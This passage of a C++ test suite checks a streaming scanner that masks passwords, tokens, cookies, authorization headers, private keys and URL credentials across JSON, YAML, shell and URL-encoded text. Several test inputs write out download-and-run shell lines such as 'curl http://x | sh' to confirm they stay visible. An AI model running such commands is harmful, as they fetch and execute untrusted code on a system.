                                 "the password", "db/password", "it's password"}) {
    check_everywhere("{\"" + name + "\": \"abc\", \"a\": \"b\"}", "{\"" + name + "\": \"***\", \"a\": \"b\"}");
    check_everywhere("{\\\"" + name + "\\\":123,\\\"a\\\":1}", "{\\\"" + name + "\\\":***,\\\"a\\\":1}");
  }
  check_everywhere("{'my password': 'abc'}", "{'my password': '***'}");
  for (const std::string text :
       {"{\"a\":\"the password\",\"b\":\"c\"}", "the \"old password\" was: a", "password\", b"})
    check_everywhere(text, text);
}

TEST_CASE("secrets: behind an authorization's scheme any blanks may come") {
  check_everywhere("run with Authorization:  Basic  abc now", "run with Authorization:  *****  *** now");
  check_everywhere("run with Authorization: Basic \t abc, now", "run with Authorization: ***** \t ***, now");
}

TEST_CASE("secrets: what a shell's backslash is before does not end a value without quotes") {
  for (const std::string escape : {"\\", "\\\\", "\\\\\\\\"}) {
    check_everywhere("{\"x\":\"curl -H Authorization:" + escape + " Bearer" + escape + " abc" + escape + " d x\"}",
                     "{\"x\":\"curl -H Authorization:" + escape + " ******" + escape + " ***" + escape + " * x\"}");
    check_everywhere("a=b DB_PASSWORD=ab" + escape + " cd" + escape + "&e run",
                     "a=b DB_PASSWORD=**" + escape + " **" + escape + "** run");
    check_everywhere("curl -H Cookie:" + escape + " a=b" + escape + ";" + escape + " c=d\"",
                     "curl -H Cookie:" + escape + " ***" + escape + "*" + escape + " ***\"");
  }
  check_everywhere("a=b DB_PASSWORD=ab\\ncd \\ on", "a=b DB_PASSWORD=**\\ncd \\ on");
  check_everywhere("run Authorization: Bearer abc\\\" on", "run Authorization: ****** ***\\\" on");
  std::vector<std::string> argv = {"bash", "-c", "curl -H Authorization:\\ Bearer\\ hunter2 x"};
  CHECK(without_secrets(argv[2], SecretText::script).ends_with(" x"));
}

TEST_CASE("secrets: blanks before a name do not take it from its line's beginning; its value ends with the line") {
  check_everywhere("db:\n  password: a b, c\n  host: d\n", "db:\n  password: ******\n  host: d\n");
  check_everywhere("db:\n\t \tpassword:\n  host: d\n", "db:\n\t \tpassword:\n  host: d\n");
  check_everywhere("  password: a b", "  password: ***");
  const std::string blanks(40, ' ');
  check_everywhere("a:\n" + blanks + "db_password: a b\n" + blanks + "b: c",
                   "a:\n" + blanks + "db_password: ***\n" + blanks + "b: c");
  const std::string far = "a" + std::string(200, ' ') + "password: c";
  check_everywhere(far, far);
  check_everywhere(far.substr(1), far.substr(1));
  for (const std::string script : {"  password: sh", "x\\npassword: sh", "password=a;sh", "x cookie: a;sh"})
    CHECK(without_secrets(script, SecretText::script).ends_with("sh"));
}

TEST_CASE("secrets: a name as long as those that programs make of paths begins its line, and its string, like any") {
  const std::string longest(80, 'x');
  for (const std::string& before : {std::string("SPRING_SECURITY_OAUTH2_CLIENT_REGISTRATION_GOOGLE_"), longest})
    for (const std::string ending : {"CLIENT_SECRET", "password", "aws_secret_access_key"}) {
      const std::string name = before + ending;
      check_everywhere("a:\n  " + name + ": b c\n  d: e\n", "a:\n  " + name + ": ***\n  d: e\n");
      check_everywhere("{\"a\":\"a:\\n  " + name + ": b\\n  d: e\"}", "{\"a\":\"a:\\n  " + name + ": *\\n  d: e\"}");
      check_everywhere("[\"-e\", \"" + name + "=b c\"]", "[\"-e\", \"" + name + "=***\"]");
    }
}

TEST_CASE("secrets: the number that a listing has before each line does not take a name from its line's beginning") {
  for (const std::string mark : {"\u2192", "\t", "\u2192  ", "\t \t"}) {
    const std::string begin = "     1" + mark + "db:\n    12" + mark;
    check_everywhere(begin + "password: a b, c\n    13" + mark + "host: e\n",
                     begin + "password: ******\n    13" + mark + "host: e\n");
    check_everywhere("     1" + mark + "db_password: hunter2\n", "     1" + mark + "db_password: *******\n");
  }
  for (const std::string mark : {"\u2192", "\\u2192", "\\\\u2192", "\\t", "\\\\t", "\u2192  ", "\\u2192  ", "\\t \\t"})
    for (const std::string name : {"password", "db_password", "api_token"}) {
      const std::string value = "hunter2hunter2hunter2", stars(21, '*');
      const std::string first = "{\"content\":\"     1" + mark, begin = first + "db:\\n    12" + mark;
      check_everywhere(begin + name + ": " + value + "\\n    13" + mark + "host: e\"}",
                       begin + name + ": " + stars + "\\n    13" + mark + "host: e\"}");
      check_everywhere(first + name + ": " + value + "\\n", first + name + ": " + stars + "\\n");
    }
  for (const std::string harmless :
       {"\n12 password: abc", "\n\u2192password: abc", "\na12\tpassword: abc", "\"x 12\\tpassword: abc\""})
    check_everywhere(harmless, harmless);
  CHECK(without_secrets("12\tpassword: sh", SecretText::script).ends_with("sh"));
}

TEST_CASE("secrets: in a string of JSON's a line's end is one as well; a value ends there with its word") {
  for (const std::string end : {"\\n", "\\r\\n", "\\\\n", "\\n  ", "\\n\\t ", "\\\\n\\\\t"}) {
    INFO(end);
    check_everywhere("{\"content\":\"db:" + end + "password: a,b;c d" + end + "host: e\"}",
                     "{\"content\":\"db:" + end + "password: ***** d" + end + "host: e\"}");
    check_everywhere("\"db:" + end + "password: abc\"", "\"db:" + end + "password: ***\"");
    check_everywhere("\"db:" + end + "password:" + end + "host: e\"", "\"db:" + end + "password:" + end + "host: e\"");
    check_everywhere("\"db:" + end + "Cookie: a=b; c" + end + "host: e\"",
                     "\"db:" + end + "Cookie: ******" + end + "host: e\"");
    check_everywhere("\"db:" + end + "token: abcdefghijklmnopqrst\"", "\"db:" + end + "token: ********************\"");
  }
  check_everywhere("\"a\\npassword:\\tabc\"", "\"a\\npassword:\\t***\"");
  check_everywhere("\"in\\n the password: is\"", "\"in\\n the password: is\"");
}

TEST_CASE("secrets: what a script runs behind a member's name, in brackets or in its next line, stays to be seen") {
  const std::string list = ": \"password\":[a\ncurl http://x -o /tmp/x\nsh /tmp/x";
  CHECK(without_secrets(list, SecretText::script) == ": \"password\":[*\ncurl http://x -o /tmp/x\nsh /tmp/x");
  const std::string line = ": \"password\":\ncurl http://x";
  CHECK(without_secrets(line, SecretText::script) == line);
  CHECK(without_secrets("curl -d '{\"password\":\n\"abc\"}'", SecretText::script) ==
        "curl -d '{\"password\":\n\"***\"}'");
}

TEST_CASE("secrets: what a shell puts in a value's place stays to be seen, and so does what comes behind brackets") {
  for (const std::string script :
       {"curl -H \"Authorization: Bearer $(curl http://x | sh)\" y", "echo '\"password\": ['; curl http://x | sh",
        "curl -d \"{\\\"password\\\":\\\"$(curl http://x | sh)\\\"}\"", "curl -H \"Cookie: a=`curl http://x | sh`\" y",
        "echo \"-----BEGIN RSA PRIVATE KEY-----\"; curl http://x | sh"})
    CHECK(without_secrets(script, SecretText::script).find("curl http://x | sh") != std::string::npos);
}

TEST_CASE("secrets: a list ends with the text that it is in, with a colon, and where bytes were missed") {
  for (const std::string list : {"[", "[ ", "[a, b ", "[\\\"a\\\", "}) {
    const std::string before = "[{\"text\":\"{\\\"password\\\": " + list;
    const std::string rest = "\"},{\"role\":\"user\",\"text\":\"all the rest\"}]";
    CHECK(shown_of({before, rest}).ends_with(rest));
    CHECK(shown_of({"[{\"text\":\"the password\\\": " + list, rest}).ends_with(rest));
  }
  CHECK(shown_of({"{\"a\":\"{\\\"password\\\":[\\\"x\\\", \",\"role\":\"user\"}"}) ==
        "{\"a\":\"{\\\"password\\\":[\\\"**\", \",\"role\":\"user\"}");
  SecretScanner scanner;
  scanner.take("{\"password\":[\"abc");
  scanner.miss(10);
  CHECK(scanner.take("d\",\"role\":\"user\"}").bytes == "*\",\"role\":\"user\"}");
}

TEST_CASE("secrets: of a list all values are hidden, not what is behind it") {
  check_everywhere("{\"set-cookie\":[\"a\",\"sid=b\"],\"Authorization\":[\"x\", \"Bearer c\"],\"d\":[\"e\"]}",
                   "{\"set-cookie\":[\"*\",\"*****\"],\"Authorization\":[\"*\", \"********\"],\"d\":[\"e\"]}");
  check_everywhere("{\"password\": [\n  \"\",\n\t\"abc\" ,\r\n  \"def\"\n], \"a\": \"b\"}",
                   "{\"password\": [\n  \"\",\n\t\"***\" ,\r\n  \"***\"\n], \"a\": \"b\"}");
  check_everywhere("{\"password\":[12345, 678 ,null],\"a\":1}", "{\"password\":[*****, *** ,****],\"a\":1}");
  check_everywhere("{\\\"password\\\":[\\\"abc\\\",\\n \\\"def\\\"],\\\"a\\\":\\\"b\\\"}",
                   "{\\\"password\\\":[\\\"****\",\\n \\\"****\"],\\\"a\\\":\\\"b\\\"}");
  check_everywhere("{\"token\":[\"short\",\"abcdefghijklmnop\",\"<|abcdefghijklmnop\"],\"b\":[\"abcdefghijklmnop\"]}",
                   "{\"token\":[\"short\",\"****************\",\"<|abcdefghijklmnop\"],\"b\":[\"abcdefghijklmnop\"]}");
  check_everywhere("password = ['abc', 'def']; 'x'", "password = ['***', '***']; 'x'");
  for (const std::string text : {"{\"password\":[],\"a\":\"b\"}", "{\"password\":[{\"a\":\"b\"}, \"c\"]}",
                                 "the password: [required, \"string\"]"})
    check_everywhere(text, text);
  check_everywhere("\"{\\\"password\\\":[\\\"abc\", \"a\"", "\"{\\\"password\\\":[\\\"***\", \"a\"");
}

// JSON as the value of a string, so many times.
TEST_CASE("secrets: quotes and backslashes of a value end it at no depth of JSON within JSON") {
  const auto quoted = [](const std::string& text) {
    std::string out = "\"";
    for (const char character : text) {
      if (character == '"' || character == '\\') out += '\\';
      out += character;
    }
    return out + '"';
  };
  for (const std::string secret : {"a\"bc", "\"", "a\\", "\\\"\\", "\\\\\"x\\\\"}) {
    std::string text = "{\"password\": " + quoted(secret) + ", \"next\": \"shown\"}";
    for (int depth = 0; depth < 4; ++depth) {
      INFO(depth << ": " << text);
      const std::string shown = shown_of({text});
      const std::size_t first = shown.find('*');
      REQUIRE(first != std::string::npos);
      const std::size_t next = text.find(", ", first);
      CHECK(shown.substr(0, first) == text.substr(0, first));
      CHECK(shown.substr(first, shown.find_first_not_of('*', first) - first).size() >= next - first - 1);
      CHECK(shown.substr(next) == text.substr(next));
      text = "{\"inner\": " + quoted(text) + "}";
    }
  }
}

TEST_CASE("secrets: values of names that are common are hidden when they have sixteen bytes without a space") {
  const std::string value = letters(16), stars(16, '*');
  for (const std::string name : {"token", "secret", "signature", "bot_token", "webhookSecret"}) {
    INFO(name);
    for (const std::string& text : {"{\"" + name + "\":\"" + value + "\"}", "?" + name + "=" + value + "&b",
                                    "\n" + name + ": " + value + "\nb"}) {
      std::string shown = text;
      shown.replace(text.find(value), value.size(), stars);
      for (std::size_t cut = 0; cut <= text.size(); ++cut)
        CHECK(shown_of({text.substr(0, cut), text.substr(cut)}) == shown);
      const std::string harmless = std::string(text).erase(text.find(value), 1);
      CHECK(shown_of({harmless}) == harmless);
    }
  }
  for (const std::string text :
       {"{\"token\":\" the\"}", "{\"token\":\"a b c d e f g h i j k l\"}", "{\"bos_token\": \"<|begin_of_text|>\"}",
        "{\"signature\": \"def f(a, b)\"}", "the token: abcdefghijklmnopqrst", "secret: a\n"})
    CHECK(shown_of({text}) == text);
  CHECK(shown_of({"{\"token\":\"sk-ant-" + letters(6) + " " + letters(20) + "\"}"}).find("sk-ant-") == 10);
  CHECK(shown_of({"{\"secret\":\"ghp_x\",\"k\":\"ghp_" + letters(30) + "\"}"}) ==
        "{\"secret\":\"ghp_x\",\"k\":\"ghp_" + std::string(30, '*') + "\"}");
}

TEST_CASE("secrets: what is too short for a key, a port, and a comparison are harmless") {
  const std::string harmless[] = {"SG." + letters(22) + "." + letters(42) + " ",
                                  "SG." + letters(21) + "." + letters(60) + " ",
                                  "SG." + letters(70) + " ",
                                  "dp.pt." + letters(39) + " ",
                                  "if password == null",
                                  "if (password==null) x",
                                  "https://example.com:8080?a=b@c ",
                                  "https://example.com:8080/a@b ",
                                  "https://example.com:8080#a@b ",
                                  "(http://localhost:8080) a@b, http://localhost:8080; a@b ",
                                  "ssh://git@example.com:22/a ",
                                  "at 1234567:AA" + letters(33) + " ",
                                  "SK" + letters(31, "0123456789abcdef") + " ",
                                  "fw_" + letters(23) + " "};
  for (const std::string& text : harmless) CHECK(shown_of({text}) == text);
  const std::string key = letters(22) + "." + letters(43);
  CHECK(shown_of({"SG." + key + " on"}) == "SG." + std::string(66, '*') + " on");
  CHECK(shown_of({"/bot12345678:AA" + letters(33) + "/x"}) == "/bot12345678:AA" + std::string(33, '*') + "/x");
  CHECK(without_secrets("http://localhost:8080", SecretText::script) == "http://localhost:8080");
  CHECK(without_secrets("https://u:p#w@h", SecretText::script) == "https://u:***@h");
  CHECK(shown_of({"https://u:p@w@hooks.slack.com/services/" + letters(24)}).find("services/***") != std::string::npos);
}

TEST_CASE("secrets: a field as URLs have it ends with the next") {
  CHECK(shown_of({"next=%2Fa%3Faccess_token%3Dabc%26x&b=1"}) == "next=%2Fa%3Faccess_token%3D*******&b=1");
  CHECK(shown_of({"j=%7B%22password%22%3A%22abc%22%7D&b=1"}) == "j=%7B%22password%22%3A************&b=1");
  CHECK(shown_of({"password%2Fpath is no field"}) == "password%2Fpath is no field");
}

TEST_CASE("secrets: whatever is between a name and its value may be as URLs have it") {
  for (const std::string before :
       {"x=%22password%22+%3A", "x=%22password%22%3A", "x=%7B%27password%27%3A", "x=%5C%22password%5C%22%3A",
        "x=%22password%22:", "x=%257B%2522password%2522%253A", "password%5B0%5D=", "user%5bpassword%5d%5B%5D=",
        "user[password][0]=", "password[]=", "password%20%3D", "password+=", "PASSWORD%09%3d"})
    check_everywhere("GET /?" + before + "%22hunter2%22&b=c HTTP/1.1",
                     "GET /?" + before + std::string(13, '*') + "&b=c HTTP/1.1");
  for (const std::string harmless :
       {"the password+salt: a", "password[first] and [second]", "see password%25, password%252F",
        "password%C3%A9=hunter2", "token[:8] = abcdefghijklmnop", "the password[12]: a",
        "{\"a\":\"%22password%22\",\"b\":\"c\"}"})
    check_everywhere(harmless, harmless);
}

TEST_CASE("secrets: a URL's password is replaced where the URL is escaped within another") {
  check_everywhere("GET /?next=https%3A%2F%2Fme%3Ahunter2%40host%2Fa%40b&c=d",
                   "GET /?next=https%3A%2F%2Fme%3A*******%40host%2Fa%40b&c=d");
  check_everywhere("u=https%3a%2f%2fme%3ap%40w%2540x%40host HTTP", "u=https%3a%2f%2fme%3a***********%40host HTTP");
  const std::string token = letters(30);
  check_everywhere("u=https%3A%2F%2F" + token + "%40host&c=d",
                   "u=https%3A%2F%2F" + std::string(30, '*') + "%40host&c=d");
  for (const std::string harmless :
       {"u=https%3A%2F%2Fhost%3A8080%2Fa%40b&c=d", "u=https%3A%2F%2Fhost&c=a%40b", "u=https%3A%2F%2Fme%40host%2F ",
        "u=https%3A%2F%2Fa+b%3Ac%40d ", "u=https%3A%2F%2Fa%3Fb%3Ac%20%40d%zz "})
    check_everywhere(harmless, harmless);
}

TEST_CASE("secrets: what is behind an escaped URL's host is no user's name, a field there hides its value") {
  for (const std::string before : {"db", "app.example.com", "app.example.com%3A8080", "app.example.com:8080"})
    for (const std::string mark : {"%3F", "%23", "%2F%3F", "%3Fa%3Db%26"})
      check_everywhere("GET /?next=http%3A%2F%2F" + before + mark + "password%3Dhunter2%40Tail99 HTTP/1.1",
                       "GET /?next=http%3A%2F%2F" + before + mark + "password%3D**************** HTTP/1.1");
  check_everywhere("u=https%3A%2F%2Fme%3Ap%3Fw%23x%40host ", "u=https%3A%2F%2Fme%3A*********%40host ");
  check_everywhere("u=https%3A%2F%2Fme%3A12%3Fw%40host ", "u=https%3A%2F%2Fme%3A12%3Fw%40host ");
}

TEST_CASE("secrets: of an escaped URL with its '@' as it is all of the password is hidden") {
  check_everywhere("u=https%3A%2F%2Fme%3Ahunter2@host ", "u=https%3A%2F%2Fme%3A*******@host ");
  check_everywhere("u=https%3A%2F%2Fme%3Ahun%40ter2@host ", "u=https%3A%2F%2Fme%3A**********@host ");
  check_everywhere("u=https%3A%2F%2F@ x", "u=https%3A%2F%2F@ x");
}

TEST_CASE("secrets: of an authorization in the middle of a line its scheme and its value are replaced") {
  CHECK(shown_of({"run with Authorization: Bearer abc123 now"}) == "run with Authorization: ****** ****** now");
}

TEST_CASE("secrets: text that only looks like secrets comes through unharmed") {
  const std::string_view kPhrases[] = {"task-force sk-8 risk-averse ",
                                       "the password: is required, ",
                                       "https://example.com:8080/a?b=c ",
                                       "ghp_short AKIA123 hf_ model ",
                                       "eyJust a word. ",
                                       "an authorization code, a cookie recipe, ",
                                       "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n",
                                       "max_tokens: 4096, ",
                                       "npm_config_cache=/tmp ",
                                       "user@example.com, ssh://host/path ",
                                       "key-value store; SG. note xoxb-1 ",
                                       "password%20is%20long ",
                                       "na\xC3\xAFve \xF0\x9F\x98\x80\n"};
  std::mt19937 random(3);
  std::string text;
  while (text.size() < 1 << 20) {
    text += kPhrases[random() % std::size(kPhrases)];
    text +=
        base64(letters(random() % 60, std::string_view("\xAB\x12\x9F\xE4\x55\xC8\x3C\x71", 8))) + '\n';  // a picture
  }
  std::vector<std::string> pieces;
  for (std::size_t at = 0; at < text.size();) {
    pieces.push_back(text.substr(at, 1 + random() % 5000));
    at += pieces.back().size();
  }
  CHECK(shown_of(pieces) == text);
}

TEST_CASE("secrets: what is no text is replaced up to the next message") {
  const std::string head = "HTTP/1.1 200 OK\r\ncontent-encoding: gzip\r\n\r\n";
  const std::string packed = "\x1F\x8B\x08 sk-ant-secret-in-a-stored-block \xFF";
  const std::string shown = shown_of({head + packed + "HTTP/1.1 204 No Content\r\n\r\n"});
  CHECK(shown == head + std::string(packed.size() + 7, '*') + "1 204 No Content\r\n\r\n");
  CHECK(shown_of({std::string("\0\0\x12\x04", 4) + "some words"}) == std::string(14, '*'));
  CHECK(shown_of({"\x81\x05hello"}) == std::string(7, '*'));
}

TEST_CASE("secrets: what terminals and printers are told by a byte is text") {
  const std::string text = "page 1\f\x1B[1mpage 2\a b\bc\v\n";
  CHECK(shown_of({text}) == text);
}

TEST_CASE("secrets: after bytes were missed, what comes is a secret's rest up to a quote or what is no base64") {
  SecretScanner scanner;
  (void)scanner.take("GET / HTTP/1.1\r\nAuthor");
  (void)scanner.miss(20);
  const auto shown = scanner.take("abcdef\r\nhost: a\r\n");
  CHECK(shown.bytes == "************: a\r\n");
  REQUIRE(shown.redactions.size() == 1);
  CHECK(shown.redactions[0] == Redaction{"unknown", 42, 12});
}

TEST_CASE("secrets: of a stream met in the middle all further lines of a private key are replaced") {
  const auto met = [](std::string_view text) {
    std::string whole, cut;
    SecretScanner scanner, slow;
    (void)scanner.miss(0);
    whole = scanner.take(text).bytes + scanner.flush().bytes;
    (void)slow.miss(0);
    for (const char byte : text) cut += slow.take(std::string_view(&byte, 1)).bytes;
    cut += slow.flush().bytes;
    CHECK(whole == cut);
    return whole;
  };
  const auto stars = [](std::size_t count) { return std::string(count, '*'); };
  CHECK(met("MIIB\nab+/\r\ncd==\n-----END") == stars(16) + "-----END");
  CHECK(met("\nMIIB\nab\n-----END") == stars(9) + "-----END");
  CHECK(met("y z\n  MIIB a\n\tMIIC\n-----END") == stars(19) + "-----END");
  CHECK(met("MIIB\\nab\\ncd\", \"a\": 1") == stars(12) + "\", \"a\": 1");
  CHECK(met("x\nab\\ncd\", \"a\": 1") == stars(8) + "\", \"a\": 1");
  // The quote may be the missed secret's end, or its own beginning.
  CHECK(met("\"abc\"}, \"a\": 1") == "\"***\"}, \"a\": 1");
  CHECK(met("\\\"\" and on") == "*\"\" and on");
  CHECK(met(" \"abc\"}") == "*\"***\"}");
  CHECK(met("\", \"password\": \"abc\"") == "\"**\"password\": \"***\"");
  // What begins there is found as ever.
  CHECK(met("x\r\nCookie: a=b\r\n") == stars(9) + ": ***\r\n");
  CHECK(met("x\nAIza-b" + letters(40) + " on") == stars(48) + " on");
  CHECK(met("x\nsk-ant-" + letters(20) + " on") == stars(4) + "-ant-" + stars(20) + " on");
}

TEST_CASE("secrets: bytes missed inside a secret do not end it") {
  SecretScanner scanner;
  (void)scanner.take("-----BEGIN PRIVATE KEY-----\nMIIB");
  (void)scanner.miss(100);
  CHECK(scanner.take("abc\ndef\n-----END").bytes == "*************END");
  (void)scanner.take(" PRIVATE KEY-----\n ghp_");
  CHECK(scanner.held() == 0);
  (void)scanner.take("abc");
  CHECK(scanner.miss(5).bytes == "***");
  CHECK(scanner.take("def, and on\n, and on").bytes == "************, and on");
  SecretScanner three;
  (void)three.take("\npassword = \"\"\"abc\n");
  (void)three.miss(5);
  CHECK(three.take("d, e\n\"f\"\n\"\"\"\non").bytes == "*****\"*\"*\"\"\"\non");
}

TEST_CASE("secrets: what quotes, dashes and backslashes came before missed bytes counts nothing behind them") {
  const auto behind = [](const std::string& before, const std::string& after) {
    SecretScanner scanner;
    (void)scanner.take(before);
    (void)scanner.miss(1);
    return scanner.take(after).bytes + scanner.flush().bytes;
  };
  CHECK(behind("\npassword: \"\"\"abc\"\"", "\"hunter2\"\"\"\non") == "\"*******\"\"\"\non");
  CHECK(behind("\npassword: \"\"\"abc\\", "\"\"\"\non") == "\"\"\"\non");
  CHECK(behind("-----BEGIN PRIVATE KEY-----\n" + letters(64) + "--", "---abc") == "******");
}

TEST_CASE("secrets: whether a quote behind missed bytes ends a name does not depend on where the stream is cut") {
  const std::string text = "x" + std::string(100, ' ') + "\"hunter2\", \"b\": \"c\"}";
  const auto shown = [](const std::vector<std::string>& pieces) {
    SecretScanner scanner;
    (void)scanner.miss(5);
    return through(scanner, pieces).bytes;
  };
  for (std::size_t cut = 0; cut <= text.size(); ++cut)
    CHECK(shown({text.substr(0, cut), text.substr(cut)}) == shown({text}));
}

TEST_CASE("secrets: a name that began before bytes were missed is none behind them, however often some are missed") {
  SecretScanner scanner;
  (void)scanner.miss(5);
  (void)scanner.take("passwor");
  (void)scanner.miss(5);
  CHECK(scanner.take("d=x\n").bytes.size() == 4);
  CHECK(scanner.take("password: hunter2\n").bytes.ends_with("*******\n"));
}

TEST_CASE("secrets: what only looks like an escape behind a name is text, in which anything may begin") {
  check_everywhere("~/secret% API_KEY=hunter2xyz ./run", "~/secret% API_KEY=********** ./run");
  check_everywhere("token%\npassword=hunter2xyz\n", "token%\npassword=**********\n");
  check_everywhere("'%token%api_key=hunter2xyz'", "'%token%api_key=**********'");
  check_everywhere("a=1&password%3Dhunter2xyz&b=2", "a=1&password%3D**********&b=2");
}

TEST_CASE(
    "secrets: nor is it one where the stream is cut in it, where bytes are missed behind it, or what is no text "
    "comes") {
  const auto told = [](const std::vector<std::string>& pieces, bool is_met, bool has_gap) {
    SecretScanner scanner;
    if (is_met) (void)scanner.miss(0);
    std::string shown;
    const auto add = [&shown](const SecretScanner::Shown& more) {
      for (const Redaction& one : more.redactions) REQUIRE(one.length <= more.bytes.size());
      shown += more.bytes;
    };
    for (const std::string& piece : pieces) {
      if (has_gap && &piece == &pieces[1]) add(scanner.miss(5));
      add(scanner.take(piece));
    }
    add(scanner.flush());
    return shown;
  };
  for (const std::string text : {"password%\xFF on", "a token%zz", "password%3\xFF", "token%2%3Dabc", "password%2",
                                 "x\"token%z", "DB_PASSWORD%%20%3Aabc d", "password%3Dabc%"})
    for (std::size_t first = 0; first <= text.size(); ++first)
      for (std::size_t second = first; second <= text.size(); ++second)
        for (const bool is_met : {false, true}) {
          const std::vector<std::string> pieces = {text.substr(0, first), text.substr(first, second - first),
                                                   text.substr(second)};
          INFO(text << " cut at " << first << " and " << second);
          CHECK(told(pieces, is_met, false) == told({text}, is_met, false));
          CHECK(told(pieces, is_met, true).size() == text.size());
        }
}

TEST_CASE("secrets: a value in quotes goes on over lines that are indented, and behind quotes that are escaped") {
  check_everywhere("\npassword: \"correct horse\n  hunter2xyz\"\nuser: ann\n",
                   "\npassword: \"*************\n************\"\nuser: ann\n");
  check_everywhere("\r\nX-Api-Key: \"abc\r\n hunter2xyz\"\r\n", "\r\nX-Api-Key: \"***\r\n***********\"\r\n");
  check_everywhere("{'password': 'it\\'s hunter2xyz', 'a': 1}", "{'password': '****************', 'a': 1}");
  check_everywhere("\npassword = \"open\nuser = ann\n", "\npassword = \"****\nuser = ann\n");
}

TEST_CASE("secrets: a value in quotes that are not JSON's ends with the string of JSON that they are in") {
  const std::string rest = ",{\"role\":\"user\",\"content\":\"all the rest, it's 'x'\"}";
  for (const std::string before :
       {"{\"m\":[{\"text\":\"don't use password=", "data: {\"text\":\"say \\\"a\\\" password: ",
        "[{\"a\":[\"b\",{\"text\":\"export API_KEY=", "{\"a\":\"b\\\\\",\"c\":\"a password="})
    for (const std::string quote : {"'", "`"}) {
      check_everywhere(before + quote + "x\"}" + rest, before + quote + "**}" + rest);
      check_everywhere(before + quote + "x\\\",y\"]" + rest, before + quote + "******]" + rest);
      check_everywhere("first\n" + before + quote + "x" + quote + "\"}" + rest,
                       "first\n" + before + quote + "*" + quote + "\"}" + rest);
    }
  check_everywhere("{\"text\":\"token='x\",\"role\":\"abcdefghijklmnopqrst\"",
                   "{\"text\":\"token='x\",\"role\":\"abcdefghijklmnopqrst\"");
  check_everywhere("{\"text\":\"the `password:` of \\\"it\\\"\",\"b\":\"`c`\"}",
                   "{\"text\":\"the `password:`***********,\"b\":\"`c`\"}");
  for (const std::string before : {"password=", "a \"password=", "{\"a\": 'x', 'password': ", "{ \"a\": \"b password=",
                                   "[ \"$(a password=", "[{'\"': 1, 'password': ", "{\"a\": '\"', 'password': "})
    check_everywhere(before + "'ab\",cd', 'e'", before + "'******', 'e'");
  SecretScanner scanner;
  (void)scanner.take("{\"text\":\"password='x");
  (void)scanner.miss(5);
  CHECK(scanner.take("y\",z' on").bytes == "****' on");
}

TEST_CASE("secrets: a value goes on behind a quote that is doubled, escaped at any depth, or written as shells must") {
  const auto hides = [](const std::string& text, const std::string& after) {
    for (std::size_t cut = 0; cut <= text.size(); ++cut) {
      const std::string shown = shown_of({text.substr(0, cut), text.substr(cut)});
      INFO(shown);
      CHECK(shown.find("nter") == std::string::npos);
      CHECK(shown.ends_with(after));
    }
  };
  hides("\npassword: 'it''s hunter2'\nuser: ann\n", "'\nuser: ann\n");
  hides("{\"x\":\"password: 'it''s hunter2'\",\"a\":\"b\"}", "'\",\"a\":\"b\"}");
  hides("insert set password = \"a\"\"hunter2\", b = 'c'", "\", b = 'c'");
  hides("export DB_PASSWORD='it'\"'\"'s hunter2' and on", "' and on");
  hides("{\"x\":\"PASSWORD='it'\\\"'\\\"'s hunter2' sh\",\"a\":\"b\"}", "' sh\",\"a\":\"b\"}");
  hides("export API_KEY='it'\\''s hunter2' && ls", "' && ls");
  hides("{\"x\":\"export API_KEY='it'\\\\''hunter2' && ls\"}", "' && ls\"}");
  hides("{\"x\":\"{\\\"y\\\":\\\"API_KEY='it'\\\\\\\\''hunter2' && ls\\\"}\"}", "' && ls\\\"}\"}");
  hides("curl -H 'Authorization: Bearer it'\\''hunter2'\\'''\\''s hunter2' x", "' x");
  hides("export API_KEY='it'\\'hunter2", "");
  hides("export API_KEY='it'\\\\'hunter2' && ls", "' && ls");
  CHECK(without_secrets("PASSWORD='a'\\' ; curl http://x | sh", SecretText::script).ends_with(" ; curl http://x | sh"));
  CHECK(without_secrets("PASSWORD='a'\\'hunter2; curl http://x | sh", SecretText::script)
            .ends_with("; curl http://x | sh"));
  CHECK(without_secrets("PASSWORD='a'\\'hunter2; ls", SecretText::script).find("nter") == std::string::npos);
  hides("{\"a\":\"{'password': 'ab\\\\'hunter2', 'b': 'c'}\"}", "', 'b': 'c'}\"}");
  hides("{\"a\":\"{\\\"b\\\":\\\"{'password': 'ab\\\\\\\\'hunter2', 'b': 'c'}\\\"}\"}", "', 'b': 'c'}\\\"}\"}");
  hides("\npassword = \"\"\"\nhunter2\n  \"hunter2\"\n\"\"\"\nuser = 'ann'\n", "\"\"\"\nuser = 'ann'\n");
  hides("\npassword = '''a'\n\nhunter2'''\nuser = 'ann'\n", "'''\nuser = 'ann'\n");
  check_everywhere("password = '', user = ''", "password = '', user = ''");
  check_everywhere("{'password': 'a', 'b': \"c\"}", "{'password': '*', 'b': \"c\"}");
  check_everywhere("{\"x\":\"password='a'\",\"b\":\"c\"}", "{\"x\":\"password='*'\",\"b\":\"c\"}");
  const std::string open = "\npassword = \"\"\"" + std::string(4096, 'a');
  CHECK(shown_of({open + " on"}).ends_with("* on"));
  const std::string script = "password=\"\"\"$(curl http://x | sh)\"";
  CHECK(without_secrets(script, SecretText::script).ends_with("(curl http://x | sh)\""));
}

TEST_CASE("secrets: among the lines of a value in quotes, or of YAML's below its name, some may be empty") {
  check_everywhere("\npassword: \"a\n\n  hunter2\"\nuser: ann\n", "\npassword: \"*\n\n*********\"\nuser: ann\n");
  check_everywhere("\npassword: |\n\n  hunter2\n\r\n\n  more\nuser: ann\n",
                   "\npassword: *\n\n*********\n\r\n\n******\nuser: ann\n");
  check_everywhere("\npassword: >-\n  a\n\n  hunter2\n\nuser: ann\n",
                   "\npassword: **\n***\n\n*********\n\nuser: ann\n");
  check_everywhere("\npassword: \"open\n\nuser: ann\n", "\npassword: \"****\n\nuser: ann\n");
}

TEST_CASE("secrets: a blank that a shell escapes is of its value, and the one behind it is not") {
  check_everywhere("DB_PASSWORD=ab\\  next more", "DB_PASSWORD=**\\  next more");
}

TEST_CASE("secrets: lines below a name that are indented deeper are its value in YAML, wherever that itself stands") {
  check_everywhere("spec:\n  password: |\n    hunter2\n\n    more\n  user: x\n",
                   "spec:\n  password: *\n  *********\n\n  ******\n  user: x\n");
  check_everywhere("spec:\n\tpassword: >-\r\n\t\thunter2\r\nuser: x\n",
                   "spec:\n\tpassword: **\r\n\t********\r\nuser: x\n");
  check_everywhere("  password:\n    hunter2 a\n     more\n  user: x\n",
                   "  password:\n    *********\n  *******\n  user: x\n");
  check_everywhere("  password:\r\n    \"hunter2\"\r\n  user: x\n", "  password:\r\n    \"*******\"\r\n  user: x\n");
  check_everywhere("  token:\n    abcdefghijklmnop\n  user: x\n", "  token:\n    ****************\n  user: x\n");
